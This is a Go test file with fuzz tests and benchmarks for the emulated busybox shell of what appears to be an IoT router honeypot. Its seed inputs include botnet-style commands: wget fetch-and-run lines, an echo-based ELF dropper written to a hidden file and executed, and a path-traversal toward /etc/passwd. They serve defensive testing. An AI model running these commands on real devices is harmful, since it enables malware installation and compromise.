package shell

import (
	"bytes"
	"context"
	"math/rand"
	"path"
	"testing"
	"time"

	"github.com/kansoku/kansoku/internal/profile"
)

func FuzzParse(f *testing.F) {
	for _, s := range []string{
		"echo hi", "cd /tmp || cd /var/run; wget http://1.2.3.4/x.sh; chmod 777 x.sh; sh x.sh",
		"while read a b; do echo $b; done < f", "for i in a b; do if [ $i = a ]; then echo $i; fi; done",
		"echo \"$(echo `echo x`)\" '${x:-y}' ${x:-$(y)} $((1+2))", "cat <<EOF\n$x\nEOF\n", "( { echo; } ) 2>&1 >/dev/null &",
	} {
		f.Add(s)
	}
	f.Fuzz(func(t *testing.T, src string) {
		_, _ = parse(src, 64)
	})
}

func FuzzEcho(f *testing.F) {
	for _, s := range []string{`\x7f\x45\x4c\x46`, `\0101\101\c`, `a\tb\\`, `\x`, `\0`, `\e\q`} {
		f.Add(s)
	}
	f.Fuzz(func(t *testing.T, s string) {
		out, _ := decodeEscapes(s, true)
		if len(out) > 2*len(s) {
			t.Fatalf("%d bytes from %d", len(out), len(s))
		}
		decodeEscapes(s, false)
	})
}

func FuzzPrintf(f *testing.F) {
	f.Add("%s-%d\\n", "a", "5")
	f.Add("%5s|%-5d|%x|%o|%c|%b", "ab", "0x2a")
	f.Add("%*.*s %99999d %%", "3", "x")
	f.Fuzz(func(t *testing.T, format, a1, a2 string) {
		out, _ := formatPrintf(format, []string{a1, a2}, func([]byte, string) {})
		if len(out) > 2<<20 {
			t.Fatalf("%d bytes of output", len(out))
		}
	})
}

func FuzzExec(f *testing.F) {
	for _, s := range []string{
		"echo hi", "cat /proc/mounts", "dd bs=52 count=1 if=/bin/echo", "/bin/busybox ECCHI",
		"cd /tmp; echo -ne '\\x7f\\x45\\x4c\\x46' > .d; chmod 777 .d; ./.d", "while true; do echo x; done",
		"x=$(yes | head -n 3); echo $x", "ls -la /proc/self/", "wget http://127.0.0.1/x -O- | sh",
	} {
		f.Add(s)
	}
	lim := Limits{MaxFSBytes: 1 << 20, MaxFileBytes: 256 << 10, MaxOutputBytes: 64 << 10, MaxLineBytes: 8192, MaxDepth: 8, MaxLoop: 2000}
	f.Fuzz(func(t *testing.T, line string) {
		s := limitedShell(t, lim)
		var b bytes.Buffer
		ctx := context.Background()
		s.Exec(ctx, line, &b)
		s.Exec(ctx, line, &b)
		s.Feed(ctx, []byte("x\n\x04"), &b)
		s.Close(ctx)
		if int64(b.Len()) > 3*lim.MaxOutputBytes {
			t.Fatalf("%d bytes of output", b.Len())
		}
	})
}

func BenchmarkExecProbe(b *testing.B) {
	s := newTestShell(b, "router-mipsel", &fakeHooks{})
	ctx := context.Background()
	var out bytes.Buffer
	b.ReportAllocs()
	for b.Loop() {
		out.Reset()
		s.Exec(ctx, "cd /tmp || cd /var/run || cd /mnt || cd /root || cd /; /bin/busybox ECCHI", &out)
	}
}

func BenchmarkExecEchoDropper(b *testing.B) {
	payload := bytes.Repeat([]byte{0x7f, 0x45, 0x4c, 0x46}, 32)
	line := echoChunks(payload, ".d", 128)[0]
	s := newTestShell(b, "router-mipsel", &fakeHooks{})
	ctx := context.Background()
	var out bytes.Buffer
	s.Exec(ctx, "cd /tmp", &out)
	b.SetBytes(int64(len(payload)))
	b.ReportAllocs()
	for b.Loop() {
		s.Exec(ctx, line, &out)
	}
}

func BenchmarkNew(b *testing.B) {
	p := profile.ByName(profile.Defaults(), "router-mipsel")
	dev := p.Instantiate([]byte("bench"))
	b.ReportAllocs()
	for b.Loop() {
		New(Config{Device: dev, Now: func() time.Time { return testNow }, Rand: rand.New(rand.NewSource(1))})
	}
}

// BenchmarkNewWithFS is a new session shell and its filesystem, which a
// session builds on its first command (from the device's shared base).
func BenchmarkNewWithFS(b *testing.B) {
	p := profile.ByName(profile.Defaults(), "router-mipsel")
	dev := p.Instantiate([]byte("bench"))
	b.ReportAllocs()
	for b.Loop() {
		s := New(Config{Device: dev, Now: func() time.Time { return testNow }, Rand: rand.New(rand.NewSource(1))})
		s.ensureFS()
	}
}

// FuzzPaths holds path resolution to path.Clean: isClean must agree with it,
// and resolving any name never panics and always yields a clean absolute
// path.
func FuzzPaths(f *testing.F) {
	for _, s := range []string{"/", "/tmp/../etc/passwd", "//a//b/", "/./x/.", "dvrHelper", "../../..", "/var/tmp/x", "a/./b/../c"} {
		f.Add(s)
	}
	s := newTestShell(f, "router-mipsel", nil)
	s.ensureFS()
	f.Fuzz(func(t *testing.T, name string) {
		if path.IsAbs(name) && isClean(name) != (path.Clean(name) == name) {
			t.Fatalf("isClean(%q) = %v, path.Clean gives %q", name, isClean(name), path.Clean(name))
		}
		p, err := s.fs.resolve("/tmp", name, true)
		if err == nil && (!path.IsAbs(p) || path.Clean(p) != p) {
			t.Fatalf("resolve(%q) = %q, not a clean absolute path", name, p)
		}
	})
}
